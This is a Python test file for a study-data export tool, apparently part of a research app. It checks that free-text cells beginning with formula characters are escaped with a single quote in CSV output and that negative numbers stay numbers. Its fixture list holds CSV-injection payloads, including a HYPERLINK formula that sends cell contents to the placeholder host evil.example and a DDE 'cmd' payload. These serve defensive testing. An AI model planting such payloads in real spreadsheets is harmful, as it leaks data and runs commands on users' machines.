"""Export: text cells that a spreadsheet would run as formulas are neutralised; numbers stay numbers."""
from __future__ import annotations

import csv
import io

from study_helpers import ANSWERS, make_study
from vr_study.storage import StudyDatabase
from vr_study.study.answerers import ScriptedAnswerer, fixed_answers
from vr_study.study.drivers import SimulatedDriver
from vr_study.study.export import FORMULA_STARTS, ItemInfo, export_study, neutralise
from vr_study.study.session import run_session
from vr_study.study.spec import load_spec

PAYLOADS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "\t=1+1", "\r=1+1"]


def test_neutralise_covers_every_formula_start_and_nothing_else():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    for p in PAYLOADS:
        assert neutralise(p) == "'" + p
    for ok in ("fine", "3", "", " =spaced", "a=b"):
        assert neutralise(ok) == ok


def test_export_of_free_text_formulas_and_negative_numbers(tmp_path):
    spec = load_spec(make_study(tmp_path / "study"))
    db = StudyDatabase(spec.database, participant_pattern=spec.study.participant_pattern)
    script = dict(ANSWERS, trial_ratings={**ANSWERS["trial_ratings"], "diversity": -3})
    out = run_session(spec, db, "P01", SimulatedDriver(speed=50), answerer=ScriptedAnswerer(db, fixed_answers(script)))
    assert out.status == "finished"
    # free text from a participant, recorded as typed (the database keeps it unchanged)
    sid = out.session_id
    pid = db.open_prompt(sid, 0, "comments")
    db.submit_prompt(pid, {f"c{i}": text for i, text in enumerate(PAYLOADS)}, "sub-1", "test")
    info = {("comments", f"c{i}"): ItemInfo("comments", f"c{i}", "=A1 any remarks?", "text")
            for i in range(len(PAYLOADS))}
    paths = export_study(db, tmp_path / "out", info, "short_demo")
    rows = list(csv.DictReader(io.StringIO(paths["responses.csv"].read_bytes().decode(), newline="")))
    texts = {r["item"]: r["response_text"] for r in rows if r["instrument"] == "comments"}
    assert texts == {f"c{i}": "'" + p for i, p in enumerate(PAYLOADS)}
    div = [r for r in rows if r["item"] == "diversity"]
    assert div and all(r["value"] == "-3" for r in div), "a negative number must stay a number"
    assert all(not v.startswith(FORMULA_STARTS) or v.lstrip("-").replace(".", "").isdigit()
               for r in rows for v in r.values() if v)
    assert "'=A1 any remarks?" in paths["codebook.csv"].read_text()
    assert "single quote" in paths["codebook.md"].read_text()
    stored = sorted(r.value for r in db.responses(sid) if r.instrument_id == "comments")
    assert stored == sorted(PAYLOADS)  # the database keeps what was typed
